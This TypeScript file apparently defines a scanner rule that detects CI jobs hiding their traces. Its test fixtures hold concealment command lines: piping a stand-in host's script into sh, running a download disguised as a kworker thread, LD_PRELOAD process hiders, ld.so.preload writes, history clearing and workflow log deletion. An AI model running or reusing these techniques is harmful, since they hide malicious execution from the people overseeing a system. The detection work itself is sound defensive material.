import { isBackgrounded, isSilenced, lineOf } from '../engine/background.ts';
import {
  type CommandPassage,
  type JobView,
  type Passage,
  runsBrought,
  type TextPassage,
} from '../engine/job-view.ts';
import { programName } from '../engine/program.ts';
import type { Match, Rule } from '../engine/rule.ts';
import { WEIGHTS } from '../engine/weights.ts';

/** Parts of names of libraries that hide processes. */
const HIDERS = ['processhider', 'process_hider', 'libhide', 'xhide'];
const PRELOAD_FILE = '/etc/ld.so.preload';
/** Addresses of a run or its log; with DELETE they are removed. */
const RUN_PATHS = ['/actions/runs', '/pipelines/', '/jobs/', '/trace', '/builds/'];
const DELETING_ACTION = 'delete-workflow-runs';
/** Calls in code by which a process gives itself another name. */
const NAME_CALLS = ['setproctitle(', 'PR_SET_NAME', 'prctl.set_name', 'process.title='];

/** Traces are removed or made to mislead. */
export const hiding: Rule = {
  id: 'hiding',
  title: 'Traces of what runs are hidden',
  severity: 'medium',
  confidence: 'low',
  maturity: 'stable',
  group: 'concealment',
  // All but the libraries are circumstances, which need no atom.
  atoms: ['processhider', 'libprocesshider', 'process hider', 'libhide', 'xhide', 'ld so preload'],
  hits: [
    { what: 'a library that hides processes', script: 'export LD_PRELOAD=/lib/libprocesshider.so' },
    { what: 'a library for everybody', script: 'echo /usr/lib/x.so >> /etc/ld.so.preload' },
    {
      what: 'logs are deleted',
      script:
        'curl -sL https://a.test/w | sh\n' +
        'curl -X DELETE https://api.github.com/repos/a/b/actions/runs/1/logs',
    },
    { what: 'runs are deleted', script: 'curl -sL https://a.test/w | sh\ngh run delete 1' },
    { what: 'no history', script: 'curl -sL https://a.test/w | bash; history -c' },
    {
      what: 'another name',
      script: 'curl -Lo w https://a.test/w; chmod +x w; exec -a "[kworker/0:1]" ./w',
    },
    {
      what: 'the program is removed while it runs',
      script: 'curl -Lo w https://a.test/w; chmod +x w; ./w & sleep 2; rm -f w',
    },
    {
      what: 'no output',
      script: 'wget -qO w https://a.test/w; chmod +x w; nohup ./w > /dev/null 2>&1 & disown',
    },
  ],
  innocents: [
    { what: 'old runs are removed', script: 'gh run delete "$RUN" --repo a/b' },
    { what: 'a checker of memory', script: 'LD_PRELOAD=/usr/lib/libasan.so ./unit-tests' },
    { what: 'a service without output', script: 'redis-server > /dev/null 2>&1 &' },
    {
      what: 'an archive is removed',
      script: 'curl -Lo a.tgz https://a.test/a.tgz; tar xf a.tgz; rm a.tgz',
    },
    { what: 'no history', script: 'unset HISTFILE && make' },
    { what: 'a resource is deleted', script: 'curl -X DELETE https://api.example.com/cache/1' },
  ],
  look(view: JobView): readonly Match[] {
    const removed = removedFiles(view);
    return [
      ...view.commands.flatMap((command) => concealments(command, view, removed)),
      ...view.texts.flatMap(textMatches),
      ...deletingActions(view),
    ];
  },
};

function concealments(
  command: CommandPassage,
  view: JobView,
  removed: ReadonlyMap<string, number>,
): readonly Match[] {
  const { program, text } = command;
  const line = lineOf(command);
  const isShown = command.kind === 'printer' && program !== 'export';
  if (!isShown && HIDERS.some((name) => line.toLowerCase().includes(name))) {
    return [found(command, text, WEIGHTS.processHider, 'sign')];
  }
  if (deletesRuns(command)) return [found(command, text, WEIGHTS.tracesRemoved)];
  if (forgetsHistory(command)) return [found(command, text, WEIGHTS.silence)];
  if (!runsBrought(command, view)) return [];
  const isRemoved = (removed.get(command.program) ?? -1) >= command.order;
  if (takesName(command) || (isRemoved && isBackgrounded(command))) {
    return [found(command, text, WEIGHTS.tracesRemoved)];
  }
  const isSilent = isBackgrounded(command) && isSilenced(command);
  return isSilent ? [found(command, line.trim(), WEIGHTS.silence)] : [];
}

function deletesRuns({ program, arguments: given, text }: CommandPassage): boolean {
  if (program === 'gh' && given[0] === 'run') return given[1] === 'delete';
  if (program !== 'gh' && program !== 'curl') return false;
  return given.includes('DELETE') && RUN_PATHS.some((path) => text.includes(path));
}

function forgetsHistory({ program, arguments: given, text }: CommandPassage): boolean {
  if (program === 'history') return given.includes('-c');
  if (program === 'unset') return given.includes('HISTFILE');
  return program === 'export' && (text.includes('HISTFILE=') || text.includes('HISTSIZE=0'));
}

/** `exec -a NAME ./x`. */
function takesName({ words, arguments: given }: CommandPassage): boolean {
  const prefixes = words.slice(0, words.length - given.length - 1);
  return prefixes.includes('exec') && prefixes.includes('-a');
}

/** Names of the files that the job removes, with the order in which it last does. */
function removedFiles({ commands }: JobView): ReadonlyMap<string, number> {
  const removed = new Map<string, number>();
  for (const { program, order, arguments: given } of commands) {
    if (program === 'rm') for (const word of given) removed.set(programName(word), order);
  }
  return removed;
}

function textMatches(passage: TextPassage): readonly Match[] {
  const { kind, name } = passage;
  const isPreload = name === 'LD_PRELOAD' || name === PRELOAD_FILE;
  if (isPreload && HIDERS.some((part) => passage.text.toLowerCase().includes(part))) {
    return [found(passage, passage.text.trim(), WEIGHTS.processHider, 'sign')];
  }
  if (name === PRELOAD_FILE) return [found(passage, name, WEIGHTS.preloadFile, 'sign')];
  if (kind !== 'code') return [];
  const call = NAME_CALLS.find((one) => passage.text.includes(one));
  return call === undefined ? [] : [found(passage, call, WEIGHTS.tracesRemoved)];
}

function deletingActions(view: JobView): readonly Match[] {
  return view.shape.remoteCode
    .filter(({ text }) => text.toLowerCase().includes(DELETING_ACTION))
    .map((source) => {
      const whole = { start: 0, end: source.text.length, layers: [], via: [], order: 0 };
      const passage: Passage = { ...whole, source, text: source.text, position: 'executed' };
      return found(passage, source.text, WEIGHTS.tracesRemoved);
    });
}

function found(
  passage: Passage,
  evidence: string,
  bits: number,
  role: Match['role'] = 'circumstance',
): Match {
  return { passage, bits, evidence, role, position: 'executed' };
}
